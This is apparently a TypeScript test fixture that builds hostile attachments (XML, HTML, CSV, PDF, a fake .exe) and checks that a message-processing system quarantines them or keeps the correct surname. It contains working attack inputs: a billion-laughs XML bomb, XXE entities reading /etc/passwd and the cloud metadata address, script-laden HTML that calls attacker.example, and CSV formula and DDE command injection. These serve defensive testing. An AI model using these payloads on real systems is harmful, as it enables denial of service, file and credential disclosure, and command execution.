import { writeScannedPdf } from "../containers/pdf.ts";
import {
  fileHeader,
  HARMLESS_ALERT,
  type HostileMessage,
  handWritten,
  usualHeaders,
  withFiles,
} from "./hostile-message.ts";

const xml = (name: string, text: string): Uint8Array =>
  withFiles(name, [{ header: fileHeader("application/xml", "alert.xml"), bytes: text }]);

const LAUGHS = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join(
  "\n",
);

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE alert [
<!ENTITY lol0 "lol">
${LAUGHS}
]>
<alert><Surname>&lol9;</Surname><Forename>Eva</Forename><DateOfBirth>1971-03-14</DateOfBirth></alert>`;

const externalEntity = (system: string): string => `<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY secret SYSTEM "${system}">]>
<alert><Surname>&secret;</Surname><Forename>Eva</Forename><DateOfBirth>1971-03-14</DateOfBirth></alert>`;

const rows = HARMLESS_ALERT.split("\r\n").flatMap((line) => {
  const [label, value] = line.split(": ");
  return label && value ? [[label, value] as const] : [];
});

const SCRIPTED_PAGE = `<html><head><script>document.title="Surname: Evil"</script></head>
<body onload="fetch('http://attacker.example')"><h2>New alert</h2>
<script>/* Surname: Evil */ document.write("<td>Surname</td><td>Evil</td>")</script>
<img src="http://tracker.example/p.gif" onerror="alert(1)"><iframe src="javascript:alert(1)"></iframe>
<table>${rows.map(([label, value]) => `<tr><td>${label}</td><td onclick="x()">${value}</td></tr>`).join("")}
<tr><td>Place of birth</td><td><a href="javascript:alert(1)">Lund</a><svg onload="alert(1)"/></td></tr></table>
</body></html>`;

const FORMULAS: Readonly<Record<string, string>> = {
  "Competent authority": '=HYPERLINK("http://attacker.example","Authority")',
  "Registration number": "+cmd|' /C calc'!A0",
  "Place of birth": "@SUM(1+1)*cmd|' /C calc'!A0",
};

function formulaSheet(): string {
  const cells = { ...Object.fromEntries(rows), ...FORMULAS };
  const quoted = (value: string): string => `"${value.replaceAll('"', '""')}"`;
  return [Object.keys(cells), Object.values(cells)].map((row) => row.map(quoted).join(",")).join("\r\n");
}

/** Documents inside a message that attack the program that opens them. */
export const HOSTILE_DOCUMENTS: readonly HostileMessage[] = [
  {
    name: "billionLaughs",
    about: "XML entities that grow to a billion words",
    build: () => xml("billion-laughs", BILLION_LAUGHS),
    expected: { state: "quarantined", reason: "xmlEntities", never: "lollol" },
  },
  {
    name: "externalFileEntity",
    about: "an XML entity that reads a file of the server",
    build: () => xml("external-file", externalEntity("file:///etc/passwd")),
    expected: { state: "quarantined", reason: "xmlEntities", never: "root:" },
  },
  {
    name: "externalAddressEntity",
    about: "an XML entity that calls another server",
    build: () => xml("external-address", externalEntity("http://169.254.169.254/latest/meta-data/")),
    expected: { state: "quarantined", reason: "xmlEntities" },
  },
  {
    name: "deepXml",
    about: "XML with elements 100,000 deep",
    build: () => xml("deep-xml", `<?xml version="1.0"?>${"<a>".repeat(100_000)}${"</a>".repeat(100_000)}`),
    expected: { state: "quarantined" },
  },
  {
    name: "scriptedPage",
    about: "an alert on a page full of scripts, one of which writes another surname",
    build: () =>
      handWritten(
        [...usualHeaders("scripted-page"), "Content-Type: text/html; charset=utf-8"],
        SCRIPTED_PAGE,
      ),
    expected: { state: "registered", surname: "Sjögren", never: "Evil" },
  },
  {
    name: "formulaSheet",
    about: "a spreadsheet whose cells are formulas and commands",
    build: () =>
      withFiles("formula-sheet", [
        { header: fileHeader("text/csv; charset=utf-8", "circular.csv"), bytes: formulaSheet() },
      ]),
    expected: { state: "registered", surname: "Sjögren" },
  },
  {
    name: "scannedPdf",
    about: "a PDF that holds a picture of a page and no text",
    build: () =>
      withFiles("scanned-pdf", [
        { header: fileHeader("application/pdf", "scan.pdf"), bytes: writeScannedPdf("2026-01-12") },
      ]),
    expected: { state: "quarantined", reason: "pdfWithoutText" },
  },
  {
    name: "brokenPdf",
    about: "a PDF that ends after its first line",
    build: () =>
      withFiles("broken-pdf", [
        { header: fileHeader("application/pdf", "alert.pdf"), bytes: "%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<<" },
      ]),
    expected: { state: "quarantined", reason: "brokenPdf" },
  },
  {
    name: "program",
    about: "a program that calls itself a form",
    build: () =>
      withFiles("program", [
        { header: fileHeader("application/pdf", "alert.pdf.exe"), bytes: `MZ${"\0".repeat(200)}` },
      ]),
    expected: { state: "quarantined", reason: "dangerousAttachment" },
  },
];
